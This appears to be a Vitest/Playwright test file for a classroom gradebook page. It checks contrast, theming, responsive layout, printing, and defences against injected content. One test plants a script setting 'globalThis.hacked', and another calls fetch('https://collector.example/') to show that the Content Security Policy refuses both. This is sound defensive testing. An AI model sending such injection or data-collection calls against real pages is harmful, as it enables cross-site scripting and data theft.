import { expect, test } from 'vitest';
import { nastyGradebook } from '../src/classroom/gradebook/page.fixture.ts';
import { gradebookPage } from '../src/classroom/gradebook/page.ts';
import { measure, pageWindows } from './page-window.ts';

const windows = pageWindows(() => gradebookPage(nastyGradebook()));

test.each(['light', 'dark'] as const)(
  '%s: every text has a contrast of at least 4.5',
  async (colorScheme) => {
    const page = await windows.open('', { colorScheme });
    let measured = 0;
    for (const hash of ['#/', '#/explain', '#/about', '#/person/s003', '#/person/s008', '#/person/s018']) {
      await windows.goTo(page, hash);
      for (const each of await page.locator('details.attempt summary:visible').all()) await each.click();
      expect(await measure(page, 'lowContrast()'), hash).toEqual([]);
      measured += Number(await measure(page, 'measuredTexts()'));
    }
    expect(measured).toBeGreaterThan(500);
    const ground = await page.evaluate('getComputedStyle(document.body).backgroundColor');
    expect(ground).toBe(colorScheme === 'dark' ? 'rgb(20, 23, 26)' : 'rgb(255, 255, 255)');
  },
);

test('the button overrules the system’s colours, and the choice outlasts a reload', async () => {
  const page = await windows.open('', { colorScheme: 'dark' });
  const ground = () => page.evaluate('getComputedStyle(document.body).backgroundColor');
  await page.getByRole('button', { name: 'Light colours' }).click();
  expect(await ground()).toBe('rgb(255, 255, 255)');
  expect(await measure(page, 'lowContrast()')).toEqual([]);
  await page.reload();
  expect(await ground()).toBe('rgb(255, 255, 255)');
  await page.getByRole('button', { name: 'Dark colours' }).click();
  expect(await ground()).toBe('rgb(20, 23, 26)');
});

test('at 360 pixels the table scrolls in its box, and no page does sideways', async () => {
  const page = await windows.open('', { viewport: { width: 360, height: 740 } });
  const box = page.locator('#table-box');
  expect(await measure(page, 'overflow("table-box").x > 300')).toBe(true);
  await page.evaluate('document.getElementById("table-box").scrollTo(300, 400)');
  const corner = await page.getByRole('columnheader', { name: 'Name' }).boundingBox();
  const outer = await box.boundingBox();
  expect(Math.abs((corner?.x ?? 0) - (outer?.x ?? 99))).toBeLessThan(3);
  expect(Math.abs((corner?.y ?? 0) - (outer?.y ?? 99))).toBeLessThan(3);
  for (const hash of ['#/', '#/explain', '#/about', '#/person/s003']) {
    await windows.goTo(page, hash);
    for (const each of await page.locator('details.who > summary:visible').all()) await each.click();
    for (const each of await page.locator('details.attempt > summary:visible').all()) await each.click();
    expect(await page.evaluate('document.documentElement.scrollWidth'), hash).toBe(360);
  }
});

test('nothing that people wrote runs or becomes markup, in any view', async () => {
  const page = await windows.open();
  for (const { id } of nastyGradebook().entries.slice(0, 12)) {
    await windows.goTo(page, `#/person/${encodeURIComponent(id)}`);
    await page.getByRole('link', { name: 'Back to the gradebook' }).first().waitFor();
    for (const each of await page.locator('details.attempt > summary:visible').all()) await each.click();
  }
  expect(await page.evaluate('globalThis.hacked')).toBeUndefined();
  expect(await page.evaluate('document.querySelectorAll("img, body style, iframe").length')).toBe(0);
  expect(await page.evaluate('document.scripts.length')).toBe(3);
});

test('the policy stops what would be put into the page later', async () => {
  const refusals: string[] = [];
  const page = await windows.open();
  await page.evaluate(
    'document.body.append(Object.assign(document.createElement("script"), { textContent: "globalThis.hacked = 4" }))',
  );
  await page.evaluate('fetch("https://collector.example/").catch(() => 0)');
  expect(await page.evaluate('globalThis.hacked')).toBeUndefined();
  await expect.poll(() => refusals.push(...windows.takeTrouble())).toBeGreaterThan(1);
  // Whatever else the page says comes before its window is closed.
  await page.context().close();
  for (const text of [...refusals, ...windows.takeTrouble()])
    expect(text).toContain('Content Security Policy');
});

test('without JavaScript all but the view of a person is there', async () => {
  const page = await windows.open('', { javaScriptEnabled: false });
  expect(await page.locator('#people-table tbody tr:visible').count()).toBe(40);
  expect(await page.locator('.view:visible').count()).toBe(3);
  expect(await page.locator('#controls, #theme, .who').filter({ visible: true }).count()).toBe(0);
});

test('on paper it is light, whole, and without controls', async () => {
  const page = await windows.open('', { colorScheme: 'dark' });
  await page.emulateMedia({ media: 'print', colorScheme: 'dark' });
  expect(await page.evaluate('getComputedStyle(document.body).backgroundColor')).toBe('rgb(255, 255, 255)');
  expect(await page.locator('#controls').isVisible()).toBe(false);
  expect(await measure(page, 'overflow("table-box")')).toEqual({ x: 0, y: 0 });
  expect(await page.getByRole('columnheader', { name: 'Total' }).isVisible()).toBe(true);
});
